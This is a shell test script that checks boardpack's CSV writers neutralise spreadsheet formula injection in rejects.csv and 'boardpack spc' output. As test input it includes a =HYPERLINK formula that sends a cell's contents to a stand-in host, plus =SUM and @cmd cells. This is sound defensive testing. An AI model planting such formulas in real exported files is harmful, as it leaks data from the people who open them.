#!/bin/sh
# csv_injection.sh - CSV outputs a user opens in a spreadsheet never carry a live formula: text
# cells beginning with = + - @ tab or CR are quoted with a leading single quote (OWASP), in
# rejects.csv and in `boardpack spc` output (the writer of PACK.spc.csv); numbers are untouched.
. "${srcdir:-.}/tests/e2e/lib.sh"
PY=$(find_python) || PY=python3

copy_tree
CSV="$TMP/tree/samples/extracts/maternity.csv"
# a row whose first cell is a formula (and which is rejected: its period is not a month)
printf '%s\n' "=HYPERLINK(\"http://x.example/?\"&A1;\"click\"),Evil,Site,2026-13,White,1,1,1,0,0,0,1,1" >>"$CSV"
"$BOARDPACK" validate --config "$TMP/tree/config/boardpack.cfg" --out "$TMP/v" >/dev/null 2>&1
REJ=$(ls "$TMP"/v/*/rejects.csv | head -n 1)
check "rejects.csv was written" test -n "$REJ"
check "the formula row is in rejects.csv, neutralised" grep -q "\"'=HYPERLINK(" "$REJ"
check "no cell of rejects.csv is a live formula" "$PY" - "$REJ" <<'PYEOF'
import csv, sys
bad = [c for row in csv.reader(open(sys.argv[1], newline="")) for c in row if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c.lstrip("-").replace(".", "", 1).isdigit())]
sys.exit(1 if bad else 0)
PYEOF

cat >"$TMP/in.csv" <<'EOC'
series,period,numerator
=SUM(A1:A9),2026-01,-3
=SUM(A1:A9),2026-02,-5
=SUM(A1:A9),2026-03,-4
@cmd,2026-01,1
@cmd,2026-02,2
@cmd,2026-03,3
plain,2026-01,1
plain,2026-02,2
plain,2026-03,3
EOC
"$BOARDPACK" spc "$TMP/in.csv" >"$TMP/spc.csv" 2>"$TMP/err"
check "boardpack spc ran" test -s "$TMP/spc.csv"
check "a series named =SUM(...) is written quoted with a leading quote" grep -q "^\"'=SUM(A1:A9)\",2026-01," "$TMP/spc.csv"
check "a series named @cmd likewise" grep -q "^\"'@cmd\",2026-01," "$TMP/spc.csv"
check "an ordinary name is unchanged" grep -q "^plain,2026-01," "$TMP/spc.csv"
check "negative numbers stay numbers" grep -q "^\"'=SUM(A1:A9)\",2026-01,1,i,-3," "$TMP/spc.csv"
finish
